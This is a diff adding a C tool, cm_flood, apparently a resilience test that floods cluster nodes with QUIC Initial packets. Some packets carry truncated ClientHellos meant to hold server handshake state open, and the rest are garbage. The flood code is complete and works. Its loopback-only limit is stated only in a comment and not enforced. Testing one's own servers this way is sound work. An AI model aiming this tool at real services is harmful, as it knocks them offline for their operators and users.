@@ -1,0 +1,371 @@
+/*
+ * A keyless outsider flooding clustermember nodes with QUIC Initials: what
+ * anyone who can send UDP to a node can do. Each packet opens a new
+ * connection attempt (a fresh random connection ID), paced evenly over many
+ * source ports of one address.
+ *
+ *   partial  a correctly protected Initial (RFC 9001 5.2 keys, derived from
+ *            the connection ID as every QUIC server must) whose CRYPTO frame
+ *            holds only the first bytes of a ClientHello: a server that
+ *            admits it waits for the rest until its handshake timeout;
+ *   random   a valid long header over random bytes: it fails decryption.
+ *
+ * Usage:
+ *   cm_flood --target IP:PORT [--target ...] [--source IP] [--ports N]
+ *            [--rate PER_PORT_PER_SECOND] [--seconds S] [--mix
+ * both|partial|random]
+ *            [--seed N] [--self-test]
+ * Prints one JSON object: packets sent, send errors, seconds, the rate
+ * achieved. Stops by itself after --seconds. IPv4 only; loopback or
+ * addresses inside a test's own namespaces only.
+ */
+#include <arpa/inet.h>
+#include <errno.h>
+#include <gnutls/crypto.h>
+#include <gnutls/gnutls.h>
+#include <netinet/in.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <time.h>
+#include <unistd.h>
+
+#define FLOOD_MAX_TARGETS 16
+#define FLOOD_MAX_PORTS 1024
+/* Every client Initial is padded to at least this (RFC 9000 14.1). */
+#define FLOOD_INITIAL_LEN 1200
+#define FLOOD_DCID_LEN 8
+#define FLOOD_SCID_LEN 8
+#define FLOOD_PN_LEN 4
+#define FLOOD_TAG_LEN 16
+/* The bytes of ClientHello carried: far short of the length it declares. */
+#define FLOOD_HELLO_BYTES 96
+#define FLOOD_HELLO_DECLARED 512
+/* Pacing tick: small enough that a burst never fills a socket buffer. */
+#define FLOOD_TICK_NS 1000000ull
+
+/* RFC 9001 5.2: the QUIC v1 Initial salt. */
+static const uint8_t initial_salt[20] = {
+    0x38, 0x76, 0x2c, 0xf7, 0xf5, 0x59, 0x34, 0xb3, 0x4d, 0x17,
+    0x9a, 0xe6, 0xa4, 0xc8, 0x0c, 0xad, 0xcc, 0xbb, 0x7f, 0x0a};
+
+typedef struct flood_keys {
+  uint8_t key[16], iv[12], hp[16];
+} flood_keys_t;
+
+static uint64_t flood_rand(uint64_t *s) {
+  /* splitmix64: garbage needs no better. */
+  uint64_t z = (*s += 0x9e3779b97f4a7c15ull);
+  z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
+  z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
+  return z ^ (z >> 31);
+}
+
+static void flood_fill(uint64_t *s, uint8_t *d, size_t len) {
+  size_t i;
+  for (i = 0; i < len; i++)
+    d[i] = (uint8_t)flood_rand(s);
+}
+
+/* HKDF-Expand-Label (RFC 8446 7.1) with an empty context. */
+static int flood_expand_label(const uint8_t *secret, const char *label,
+                              uint8_t *out, size_t len) {
+  uint8_t info[2 + 1 + 6 + 32 + 1];
+  size_t ll = strlen(label), n = 0;
+  gnutls_datum_t prk = {(unsigned char *)secret, 32}, in;
+  info[n++] = (uint8_t)(len >> 8);
+  info[n++] = (uint8_t)len;
+  info[n++] = (uint8_t)(6 + ll);
+  memcpy(info + n, "tls13 ", 6);
+  n += 6;
+  memcpy(info + n, label, ll);
+  n += ll;
+  info[n++] = 0;
+  in.data = info;
+  in.size = (unsigned)n;
+  return gnutls_hkdf_expand(GNUTLS_MAC_SHA256, &prk, &in, out, len);
+}
+
+static int flood_client_keys(const uint8_t *dcid, size_t dcidlen,
+                             flood_keys_t *k) {
+  uint8_t initial[32], client[32];
+  gnutls_datum_t ikm = {(unsigned char *)dcid, (unsigned)dcidlen};
+  gnutls_datum_t salt = {(unsigned char *)initial_salt, sizeof(initial_salt)};
+  if (gnutls_hkdf_extract(GNUTLS_MAC_SHA256, &ikm, &salt, initial) != 0 ||
+      flood_expand_label(initial, "client in", client, 32) != 0 ||
+      flood_expand_label(client, "quic key", k->key, 16) != 0 ||
+      flood_expand_label(client, "quic iv", k->iv, 12) != 0 ||
+      flood_expand_label(client, "quic hp", k->hp, 16) != 0)
+    return -1;
+  return 0;
+}
+
+/* AES-128 on one block (header protection): CBC with a zero IV is ECB for
+ * a single block. */
+static int flood_hp_mask(const uint8_t hp[16], const uint8_t sample[16],
+                         uint8_t mask[16]) {
+  gnutls_cipher_hd_t h;
+  uint8_t zero[16] = {0};
+  gnutls_datum_t key = {(unsigned char *)hp, 16}, iv = {zero, 16};
+  int rv;
+  if (gnutls_cipher_init(&h, GNUTLS_CIPHER_AES_128_CBC, &key, &iv) != 0)
+    return -1;
+  rv = gnutls_cipher_encrypt2(h, sample, 16, mask, 16);
+  gnutls_cipher_deinit(h);
+  return rv == 0 ? 0 : -1;
+}
+
+static size_t flood_varint2(uint8_t *p, size_t v) {
+  p[0] = (uint8_t)(0x40 | (v >> 8));
+  p[1] = (uint8_t)v;
+  return 2;
+}
+
+/* The start of a TLS 1.3 ClientHello: handshake header declaring more
+ * than follows, legacy version, random, an empty session id, one suite. */
+static size_t flood_partial_hello(uint64_t *s, uint8_t *p) {
+  size_t n = 0;
+  p[n++] = 0x01; /* client_hello */
+  p[n++] = 0;
+  p[n++] = (uint8_t)(FLOOD_HELLO_DECLARED >> 8);
+  p[n++] = (uint8_t)FLOOD_HELLO_DECLARED;
+  p[n++] = 0x03;
+  p[n++] = 0x03;
+  flood_fill(s, p + n, 32);
+  n += 32;
+  p[n++] = 0; /* session id */
+  p[n++] = 0; /* cipher suites: 2 bytes, TLS_AES_128_GCM_SHA256 */
+  p[n++] = 2;
+  p[n++] = 0x13;
+  p[n++] = 0x01;
+  p[n++] = 1; /* compression: null */
+  p[n++] = 0;
+  p[n++] = (uint8_t)((FLOOD_HELLO_DECLARED - 40) >> 8); /* extensions */
+  p[n++] = (uint8_t)(FLOOD_HELLO_DECLARED - 40);
+  flood_fill(s, p + n, FLOOD_HELLO_BYTES - n);
+  return FLOOD_HELLO_BYTES;
+}
+
+/* One Initial into out (FLOOD_INITIAL_LEN bytes). partial: protected,
+ * carrying a partial ClientHello; else random bytes after the header. */
+static int flood_initial(uint64_t *s, int partial, uint8_t *out) {
+  uint8_t dcid[FLOOD_DCID_LEN], plain[FLOOD_INITIAL_LEN], nonce[12];
+  size_t n = 0, pn_off, payload_len, i;
+  flood_keys_t k;
+
+  flood_fill(s, dcid, sizeof(dcid));
+  out[n++] = 0xc0 | (FLOOD_PN_LEN - 1); /* long header, Initial */
+  out[n++] = 0;
+  out[n++] = 0;
+  out[n++] = 0;
+  out[n++] = 1; /* QUIC v1 */
+  out[n++] = FLOOD_DCID_LEN;
+  memcpy(out + n, dcid, FLOOD_DCID_LEN);
+  n += FLOOD_DCID_LEN;
+  out[n++] = FLOOD_SCID_LEN;
+  flood_fill(s, out + n, FLOOD_SCID_LEN);
+  n += FLOOD_SCID_LEN;
+  out[n++] = 0; /* no token */
+  payload_len = FLOOD_INITIAL_LEN - n - 2 - FLOOD_PN_LEN - FLOOD_TAG_LEN;
+  n += flood_varint2(out + n, FLOOD_PN_LEN + payload_len + FLOOD_TAG_LEN);
+  pn_off = n;
+  memset(out + n, 0, FLOOD_PN_LEN); /* packet number 0 */
+  n += FLOOD_PN_LEN;
+  if (!partial) {
+    flood_fill(s, out + n, FLOOD_INITIAL_LEN - n);
+    return 0;
+  }
+  {
+    /* CRYPTO frame at offset 0, then PADDING (zeros). */
+    size_t m = 0;
+    memset(plain, 0, payload_len);
+    plain[m++] = 0x06;
+    plain[m++] = 0x00;
+    m += flood_varint2(plain + m, FLOOD_HELLO_BYTES);
+    flood_partial_hello(s, plain + m);
+  }
+  if (flood_client_keys(dcid, sizeof(dcid), &k) != 0)
+    return -1;
+  memcpy(nonce, k.iv, 12); /* packet number 0: the IV is the nonce */
+  {
+    gnutls_aead_cipher_hd_t h;
+    gnutls_datum_t key = {k.key, 16};
+    size_t clen = payload_len + FLOOD_TAG_LEN;
+    int rv;
+    if (gnutls_aead_cipher_init(&h, GNUTLS_CIPHER_AES_128_GCM, &key) != 0)
+      return -1;
+    rv = gnutls_aead_cipher_encrypt(h, nonce, 12, out, n, FLOOD_TAG_LEN, plain,
+                                    payload_len, out + n, &clen);
+    gnutls_aead_cipher_deinit(h);
+    if (rv != 0 || clen != payload_len + FLOOD_TAG_LEN)
+      return -1;
+  }
+  {
+    uint8_t mask[16];
+    if (flood_hp_mask(k.hp, out + pn_off + 4, mask) != 0)
+      return -1;
+    out[0] ^= mask[0] & 0x0f;
+    for (i = 0; i < FLOOD_PN_LEN; i++)
+      out[pn_off + i] ^= mask[1 + i];
+  }
+  return 0;
+}
+
+/* RFC 9001 appendix A.1: the client keys for DCID 0x8394c8f03e515708. */
+static int flood_self_test(void) {
+  static const uint8_t dcid[8] = {0x83, 0x94, 0xc8, 0xf0,
+                                  0x3e, 0x51, 0x57, 0x08};
+  static const uint8_t key[16] = {0x1f, 0x36, 0x96, 0x13, 0xdd, 0x76,
+                                  0xd5, 0x46, 0x77, 0x30, 0xef, 0xcb,
+                                  0xe3, 0xb1, 0xa2, 0x2d};
+  static const uint8_t iv[12] = {0xfa, 0x04, 0x4b, 0x2f, 0x42, 0xa3,
+                                 0xfd, 0x3b, 0x46, 0xfb, 0x25, 0x5c};
+  static const uint8_t hp[16] = {0x9f, 0x50, 0x44, 0x9e, 0x04, 0xa0,
+                                 0xe8, 0x10, 0x28, 0x3a, 0x1e, 0x99,
+                                 0x33, 0xad, 0xed, 0xd2};
+  flood_keys_t k;
+  if (flood_client_keys(dcid, sizeof(dcid), &k) != 0 ||
+      memcmp(k.key, key, 16) != 0 || memcmp(k.iv, iv, 12) != 0 ||
+      memcmp(k.hp, hp, 16) != 0) {
+    fprintf(stderr, "cm_flood: Initial key derivation is wrong\n");
+    return 1;
+  }
+  printf("{\"self_test\": \"ok\"}\n");
+  return 0;
+}
+
+static uint64_t flood_now_ns(void) {
+  struct timespec ts;
+  clock_gettime(CLOCK_MONOTONIC, &ts);
+  return (uint64_t)ts.tv_sec * 1000000000ull + (uint64_t)ts.tv_nsec;
+}
+
+static int flood_parse_target(const char *s, struct sockaddr_in *sa) {
+  char host[64];
+  const char *colon = strrchr(s, ':');
+  long port;
+  if (colon == NULL || (size_t)(colon - s) >= sizeof(host))
+    return -1;
+  memcpy(host, s, (size_t)(colon - s));
+  host[colon - s] = 0;
+  port = strtol(colon + 1, NULL, 10);
+  memset(sa, 0, sizeof(*sa));
+  sa->sin_family = AF_INET;
+  sa->sin_port = htons((uint16_t)port);
+  if (port <= 0 || port > 65535 || inet_pton(AF_INET, host, &sa->sin_addr) != 1)
+    return -1;
+  return 0;
+}
+
+static void flood_usage(void) {
+  fprintf(stderr,
+          "usage: cm_flood --target IP:PORT [--target ...] [--source IP] "
+          "[--ports N] [--rate R] [--seconds S] [--mix both|partial|random] "
+          "[--seed N] [--self-test]\n");
+}
+
+int main(int argc, char **argv) {
+  struct sockaddr_in targets[FLOOD_MAX_TARGETS], src;
+  static int fds[FLOOD_MAX_PORTS];
+  size_t ntargets = 0, nports = 60, i;
+  double rate = 300.0, seconds = 15.0;
+  const char *source = "127.0.0.1", *mix = "both";
+  uint64_t seed = 1, sent = 0, errors = 0, partial_sent = 0, t0, end, due;
+  uint8_t pkt[FLOOD_INITIAL_LEN];
+  double elapsed;
+  int a;
+
+  for (a = 1; a < argc; a++) {
+    const char *v = a + 1 < argc ? argv[a + 1] : NULL;
+    if (strcmp(argv[a], "--self-test") == 0)
+      return flood_self_test();
+    if (v == NULL) {
+      flood_usage();
+      return 2;
+    }
+    if (strcmp(argv[a], "--target") == 0) {
+      if (ntargets == FLOOD_MAX_TARGETS ||
+          flood_parse_target(v, &targets[ntargets]) != 0) {
+        fprintf(stderr, "cm_flood: bad target %s\n", v);
+        return 2;
+      }
+      ntargets++;
+    } else if (strcmp(argv[a], "--source") == 0) {
+      source = v;
+    } else if (strcmp(argv[a], "--ports") == 0) {
+      nports = (size_t)strtoul(v, NULL, 10);
+    } else if (strcmp(argv[a], "--rate") == 0) {
+      rate = strtod(v, NULL);
+    } else if (strcmp(argv[a], "--seconds") == 0) {
+      seconds = strtod(v, NULL);
+    } else if (strcmp(argv[a], "--mix") == 0) {
+      mix = v;
+    } else if (strcmp(argv[a], "--seed") == 0) {
+      seed = strtoull(v, NULL, 10);
+    } else {
+      flood_usage();
+      return 2;
+    }
+    a++;
+  }
+  if (ntargets == 0 || nports == 0 || nports > FLOOD_MAX_PORTS || !(rate > 0) ||
+      !(seconds > 0) || seconds > 600 ||
+      (strcmp(mix, "both") != 0 && strcmp(mix, "partial") != 0 &&
+       strcmp(mix, "random") != 0)) {
+    flood_usage();
+    return 2;
+  }
+  memset(&src, 0, sizeof(src));
+  src.sin_family = AF_INET;
+  if (inet_pton(AF_INET, source, &src.sin_addr) != 1) {
+    fprintf(stderr, "cm_flood: bad source %s\n", source);
+    return 2;
+  }
+  for (i = 0; i < nports; i++) {
+    fds[i] = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
+    if (fds[i] < 0 || bind(fds[i], (struct sockaddr *)&src, sizeof(src)) != 0) {
+      fprintf(stderr, "cm_flood: socket on %s: %s\n", source, strerror(errno));
+      return 1;
+    }
+  }
+
+  t0 = flood_now_ns();
+  end = t0 + (uint64_t)(seconds * 1e9);
+  for (;;) {
+    uint64_t now = flood_now_ns();
+    struct timespec ts;
+    if (now >= end)
+      break;
+    /* Everything due by now, spread round robin over ports and targets. */
+    due = (uint64_t)((double)(now - t0) * 1e-9 * rate * (double)nports);
+    while (sent < due) {
+      int part = strcmp(mix, "partial") == 0 ||
+                 (strcmp(mix, "both") == 0 && (sent & 1) == 0);
+      const struct sockaddr_in *to = &targets[sent % ntargets];
+      if (flood_initial(&seed, part, pkt) != 0) {
+        fprintf(stderr, "cm_flood: crypto failed\n");
+        return 1;
+      }
+      if (sendto(fds[sent % nports], pkt, sizeof(pkt), 0,
+                 (const struct sockaddr *)to, sizeof(*to)) < 0)
+        errors++;
+      partial_sent += (uint64_t)part;
+      sent++;
+    }
+    ts.tv_sec = 0;
+    ts.tv_nsec = (long)FLOOD_TICK_NS;
+    nanosleep(&ts, NULL);
+  }
+  elapsed = (double)(flood_now_ns() - t0) * 1e-9;
+  for (i = 0; i < nports; i++)
+    close(fds[i]);
+  printf("{\"sent\": %llu, \"partial\": %llu, \"random\": %llu, "
+         "\"send_errors\": %llu, \"seconds\": %.3f, \"rate\": %.1f, "
+         "\"ports\": %zu, \"source\": \"%s\"}\n",
+         (unsigned long long)sent, (unsigned long long)partial_sent,
+         (unsigned long long)(sent - partial_sent), (unsigned long long)errors,
+         elapsed, (double)sent / elapsed, nports, source);
+  return 0;
+}
